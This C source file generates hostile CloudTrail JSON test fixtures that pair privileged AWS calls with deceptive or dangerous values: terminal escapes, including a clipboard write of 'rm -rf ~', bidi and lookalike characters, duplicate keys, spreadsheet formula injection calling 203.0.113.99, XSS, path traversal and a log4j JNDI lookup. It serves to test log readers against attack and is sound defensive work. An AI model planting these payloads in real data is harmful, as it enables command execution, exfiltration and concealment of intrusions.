/* SPDX-License-Identifier: MIT */
/*
 * What attackers may put into values and keys. In all of these files the
 * call that matters stands beside something that could blind whoever reads
 * it.
 */
#include "gen/hostile.h"

#include "base/attr.h"
#include "gen/routine.h"

#define STOP  "cloudtrail:StopLogging"
#define USER  "iam:CreateUser"
#define KEY   "iam:CreateAccessKey"
#define ADMIN "iam:AttachUserPolicy"
#define TAG   "ec2:CreateTags"
#define TAGS  "resource=i-0e6921bc7de8aa9e9;tag=Name;value=@@"

/* Terminal control, as JSON escapes and as bytes. */
static const struct trick escapes[] = {
	{ "csi in agent", STOP, "trail=org-trail", "curl/8.5.0 @@", NULL,
	  BYTES("\\u001b[2J\\u001b[1;1H\\u001b[31mok"), true, TRICK_SEEN },
	{ "osc title and clipboard", USER, "user=helper", "@@", NULL,
	  BYTES("\\u001b]0;owned\\u0007\\u001b]52;c;cm0gLXJmIH4=\\u0007"), true,
	  TRICK_SEEN },
	{ "c1 controls", KEY, "user=helper;key=AKIARTX3GSDSTEXAMPLE", "x@@y",
	  NULL, BYTES("\\u009b31m\\u0090q\\u009c\\u0085"), true, TRICK_SEEN },
	{ "overwriting", ADMIN, "user=helper", "admin@@visitor", NULL,
	  BYTES("\\r\\b\\b\\b\\b\\u007f"), true, TRICK_SEEN },
	{ "line ends", TAG, TAGS, NULL, NULL,
	  BYTES("one\\ntwo\\r\\nthree\\u2028four\\u2029five\\u000bsix"), false,
	  TRICK_SEEN },
	{ "escape in a key", "cloudtrail:UpdateTrail",
	  "trail=org-trail;change='isMultiRegionTrail':false,'@@':1", NULL,
	  NULL, BYTES("a\\u001b[2Jb\\u0000c"), true, TRICK_SEEN },
	{ "dcs and apc", TAG, TAGS, NULL, NULL,
	  BYTES("\\u001bP+q544e\\u001b\\\\\\u001b_x\\u001b\\\\\\u001b[6n"),
	  false, TRICK_SEEN },
};

static const struct trick raw_bytes[] = {
	{ "raw escape", STOP, "trail=org-trail", "curl/8.5.0 @@", NULL,
	  BYTES("\x1b[2J\x1b]0;owned\x07"), true, TRICK_SEEN },
	{ "raw c1 as one byte", USER, "user=helper", "@@", NULL,
	  BYTES("\x9b"
		"31m"),
	  true, TRICK_SEEN },
	{ "raw c1 as utf-8", USER, "user=helper2", "@@", NULL,
	  BYTES("\xc2\x9b"
		"31m"),
	  true, TRICK_SEEN },
	{ "raw nul", KEY, "user=helper;key=AKIARTX3GSDSTEXAMPLE", "a@@b", NULL,
	  BYTES("\0"), true, TRICK_SEEN },
	{ "raw line end and tab", TAG, TAGS, NULL, NULL, BYTES("a\nb\tc\rd"),
	  false, TRICK_SEEN },
	{ "raw delete", TAG, TAGS, NULL, NULL, BYTES("a\x7f\x08z"), false,
	  TRICK_SEEN },
};

/* Text that does not look like what it is. */
static const struct trick lookalikes[] = {
	{ "bidi override", ADMIN, "user=helper", "@@", NULL,
	  BYTES("\xe2\x80\xaegnp.tset\xe2\x80\xac"), true, TRICK_SEEN },
	{ "bidi isolates", USER, "user=@@", NULL, NULL,
	  BYTES("he\\u2066lp\\u2069er\\u202e"), true, TRICK_SEEN },
	{ "zero width", USER, "user=ad\\u200bmin@@", NULL, NULL,
	  BYTES("\\u200d\\u2060\\ufeff"), true, TRICK_SEEN },
	{ "zero width in the call's name", STOP, "trail=org-trail", NULL,
	  "\"readOnly\":false",
	  BYTES("\"readOnly\\u200b\":true,"
		"\"readOnly\":false"),
	  true, TRICK_SEEN },
	{ "cyrillic letters", USER, "user=@@", NULL, NULL,
	  BYTES("\xd0\xb0"
		"dmin"),
	  true, TRICK_SEEN },
	{ "tag characters", TAG, TAGS, NULL, NULL,
	  BYTES("a\xf3\xa0\x81\xa1\xf3\xa0\x81\xa2z"), false, TRICK_SEEN },
	{ "combining marks", TAG, TAGS, NULL, NULL,
	  BYTES("Z\xcc\xb5\xcc\x94\xcd\x86\xcc\xbe\xcc\xa9\xcd\x95\xcc\xb1"
		"a\xcc\xb8\xcc\x8b\xcc\xa7l\xcc\xb7\xcd\x8b"),
	  false, TRICK_SEEN },
	{ "wide and joined", TAG, TAGS, NULL, NULL,
	  BYTES("\xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f"
		"\x92\xbb \xef\xbd\xb6\xef\xbe\x9e"),
	  false, TRICK_SEEN },
	{ "noncharacters", TAG, TAGS, NULL, NULL,
	  BYTES("\xef\xbf\xbe\xef\xbf\xbf\xf4\x8f\xbf\xbf\\ufffe"), false,
	  TRICK_SEEN },
};

/* Where readers in C stop, or throw the record away. */
static const struct trick nul_and_surrogates[] = {
	{ "agent begins with nul", USER, "user=helper", "@@", NULL,
	  BYTES("\\u0000harmless"), true, TRICK_SEEN },
	{ "nul in a value that matters", ADMIN,
	  "user=helper;policy=arn:aws:iam::aws:policy/AdministratorAccess@@",
	  NULL, NULL, BYTES("\\u0000"), false, TRICK_SEEN },
	{ "nul in a key", "cloudtrail:UpdateTrail",
	  "trail=org-trail;change='isMultiRegionTrail@@':true,"
	  "'isMultiRegionTrail':false",
	  NULL, NULL, BYTES("\\u0000"), true, TRICK_SEEN },
	{ "lone high surrogate", STOP, "trail=org-trail@@", NULL, NULL,
	  BYTES("\\ud800"), true, TRICK_SEEN },
	{ "lone low surrogate in a key", KEY,
	  "user=helper;key=AKIARTX3GSDSTEXAMPLE", "@@", NULL,
	  BYTES("x\\udc00y\\ud83d"), true, TRICK_SEEN },
	{ "surrogates the wrong way round", ADMIN, "user=helper", "@@", NULL,
	  BYTES("\\udc00\\ud800"), true, TRICK_SEEN },
	{ "surrogate pair", TAG, TAGS, NULL, NULL, BYTES("\\ud83d\\ude00"),
	  false, TRICK_SEEN },
	{ "nul in the region", TAG, TAGS, NULL, "\"awsRegion\":\"us-east-1\"",
	  BYTES("\"awsRegion\":\"us-east-1\\u0000\""), false, TRICK_SEEN },
};

static const struct trick invalid_utf8[] = {
	{ "continuation alone", STOP, "trail=org-trail", "x@@", NULL,
	  BYTES("\x80\xbf"), true, TRICK_SEEN },
	{ "overlong", USER, "user=helper", "x@@", NULL,
	  BYTES("\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf"), true, TRICK_SEEN },
	{ "surrogate in utf-8", KEY, "user=helper;key=AKIARTX3GSDSTEXAMPLE",
	  "x@@", NULL, BYTES("\xed\xa0\x80"), true, TRICK_SEEN },
	{ "cut off before the quote", ADMIN, "user=helper", "x@@", NULL,
	  BYTES("\xe2\x82"), true, TRICK_SEEN },
	{ "beyond unicode", TAG, TAGS, NULL, NULL,
	  BYTES("\xf4\x90\x80\x80\xf5\xff\xfe"), false, TRICK_SEEN },
	{ "latin-1", TAG, TAGS, NULL, NULL, BYTES("caf\xe9"), false,
	  TRICK_SEEN },
};

static const struct trick numbers[] = {
	{ "beyond a double", "cloudtrail:UpdateTrail",
	  "trail=org-trail;change='isMultiRegionTrail':false,'n':@@", NULL,
	  NULL, BYTES("1e999"), true, TRICK_SEEN },
	{ "two to the 53 and one", TAG, TAGS, NULL, "\"value\":\"@@\"",
	  BYTES("\"value\":9007199254740993"), false, TRICK_SEEN },
	{ "very long", TAG, TAGS, NULL, "\"value\":\"@@\"",
	  BYTES("\"value\":-0.1234567890123456789012345678901234567890e-400"),
	  false, TRICK_SEEN },
	{ "a float of an integer", TAG, TAGS, NULL, "\"value\":\"@@\"",
	  BYTES("\"value\":89.0"), false, TRICK_SEEN },
	{ "minus zero", TAG, TAGS, NULL, "\"value\":\"@@\"",
	  BYTES("\"value\":-0"), false, TRICK_SEEN },
};

/* A reader that takes the last of two sees another event. */
static const struct trick duplicate_keys[] = {
	{ "two names", STOP, "trail=org-trail", NULL,
	  "\"eventName\":\"StopLogging\"",
	  BYTES("\"eventName\":\"StopLogging\",\"eventName\":"
		"\"DescribeTrails\""),
	  true, TRICK_SEEN },
	{ "two agents", USER, "user=helper", NULL, "\"requestParameters\"",
	  BYTES("\"userAgent\":\"console.amazonaws.com\","
		"\"requestParameters\""),
	  true, TRICK_SEEN },
	{ "two parameters", ADMIN, "user=helper", NULL, "\"policyArn\"",
	  BYTES("\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\""
		",\"policyArn\":\"arn:aws:iam::aws:policy/ReadOnlyAccess\","
		"\"PolicyArn\""),
	  true, TRICK_SEEN },
};

/* For spreadsheets and for reports. */
static const struct trick formulas[] = {
	{ "formula in agent", STOP, "trail=org-trail", "@@", NULL,
	  BYTES("=cmd|' /C calc'!A0"), true, TRICK_SEEN },
	{ "plus", USER, "user=helper", "@@", NULL,
	  BYTES("+1+HYPERLINK(\\\"http://203.0.113.99/\\\"&A1)"), true,
	  TRICK_SEEN },
	{ "minus", TAG, TAGS, NULL, NULL, BYTES("-2+3+cmd|' /C calc'!A0"),
	  false, TRICK_SEEN },
	{ "at", TAG, TAGS, NULL, NULL, BYTES("@SUM(1+1)*cmd|' /C calc'!A0"),
	  false, TRICK_SEEN },
	{ "tab before", TAG, TAGS, NULL, NULL, BYTES("\\t=1+1"), false,
	  TRICK_SEEN },
	{ "quotes and commas", TAG, TAGS, NULL, NULL,
	  BYTES("a,\\\"b\\\";c\\r\\nd"), false, TRICK_SEEN },
};

static const struct trick markup[] = {
	{ "script in agent", STOP, "trail=org-trail", "@@", NULL,
	  BYTES("<script>alert(1)</script>"), true, TRICK_SEEN },
	{ "image", USER, "user=helper", "@@", NULL,
	  BYTES("<img src=x onerror=alert(1)>\\\" onmouseover=\\\"x"), true,
	  TRICK_SEEN },
	{ "markdown link", ADMIN, "user=helper", "@@", NULL,
	  BYTES("[click](javascript:alert(1)) ![](http://203.0.113.99/p.png) "
		"`code` | cell | **bold**"),
	  true, TRICK_SEEN },
	{ "fence", TAG, TAGS, NULL, NULL,
	  BYTES("```\\n# heading\\n- list\\n---\\n</details>&amp;&#x202e;"),
	  false, TRICK_SEEN },
	{ "dot and mermaid", TAG, TAGS, NULL, NULL,
	  BYTES("x\\\"]; a -> b [label=\\\"y"), false, TRICK_SEEN },
	{ "format string", TAG, TAGS, NULL, NULL, BYTES("%s%n%99999999d"),
	  false, TRICK_SEEN },
	{ "path", TAG, TAGS, NULL, NULL, BYTES("../../../../etc/passwd"), false,
	  TRICK_SEEN },
	{ "log4j", TAG, TAGS, NULL, NULL,
	  BYTES("${jndi:ldap://203.0.113.99/a}"), false, TRICK_SEEN },
};

static void records(struct hostile *h, const char *file,
		    const struct trick *tricks, size_t n, const char *what)
{
	strbuf_adds(&h->text, "{\"Records\":[");
	for (size_t i = 0; i < n; i++) {
		if (i)
			strbuf_addc(&h->text, ',');
		hostile_record(h, &tricks[i]);
	}
	strbuf_adds(&h->text, "]}");
	hostile_write(h, file, 0, what);
}

/* The names in userIdentity are the attacker's choice as well. */
static void session_names(struct hostile *h)
{
	static const char *const names[] = {
		"alice\xe2\x80\xae@moc.elpmaxe", "=HYPERLINK(1)", "<b>root</b>",
		"i-0e6921bc7de8aa9e9",           "a\x1b[31mb",
	};
	struct session *mallory = h->attacker;

	strbuf_adds(&h->text, "{\"Records\":[");
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		struct trick t = {
			.name = scene_format(&h->scene, "session name %zu", i),
			.call = STOP,
			.args = "trail=org-trail",
			.alarming = true,
		};
		struct session *s = scene_role(&h->scene, "role",
					       "111122223333", "Ops", names[i],
					       mallory->ip, mallory->agent);

		s->created = h->clock - 10 * MINUTE;
		session_new_key(s, &h->scene.rng);
		h->attacker = s;
		if (i)
			strbuf_addc(&h->text, ',');
		hostile_record(h, &t);
	}
	h->attacker = mallory;
	strbuf_adds(&h->text, "]}");
	hostile_write(h, "session-names.json", 0,
		      "role session names of the attacker's choice");
}

void hostile_text(struct hostile *h)
{
	records(h, "escapes.json", escapes, ARRAY_SIZE(escapes),
		"terminal control as JSON escapes, in values and keys");
	records(h, "raw-bytes.json", raw_bytes, ARRAY_SIZE(raw_bytes),
		"control characters as they are, which JSON forbids");
	records(h, "lookalikes.json", lookalikes, ARRAY_SIZE(lookalikes),
		"bidirectional controls, zero width, foreign letters");
	records(h, "nul-and-surrogates.json", nul_and_surrogates,
		ARRAY_SIZE(nul_and_surrogates),
		"NUL and lone surrogates, in values and keys");
	records(h, "invalid-utf8.json", invalid_utf8, ARRAY_SIZE(invalid_utf8),
		"bytes that are not UTF-8");
	records(h, "numbers.json", numbers, ARRAY_SIZE(numbers),
		"numbers that a double does not hold");
	records(h, "duplicate-keys.json", duplicate_keys,
		ARRAY_SIZE(duplicate_keys), "the first of two counts");
	records(h, "formulas.json", formulas, ARRAY_SIZE(formulas),
		"what a spreadsheet would run");
	records(h, "markup.json", markup, ARRAY_SIZE(markup),
		"HTML, Markdown, DOT and others");
	session_names(h);
}
